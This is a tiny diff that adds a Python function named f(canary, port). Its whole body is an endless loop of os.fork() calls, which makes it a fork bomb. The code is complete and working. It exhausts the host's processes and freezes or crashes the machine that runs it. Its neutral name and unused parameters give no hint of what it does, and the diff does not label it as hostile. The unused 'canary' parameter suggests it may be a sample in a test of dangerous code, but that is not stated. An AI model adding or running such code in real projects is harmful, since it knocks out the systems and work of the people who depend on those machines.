@@ -1,0 +1,6 @@
+import os
+
+
+def f(canary, port):
+    while True:
+        os.fork()
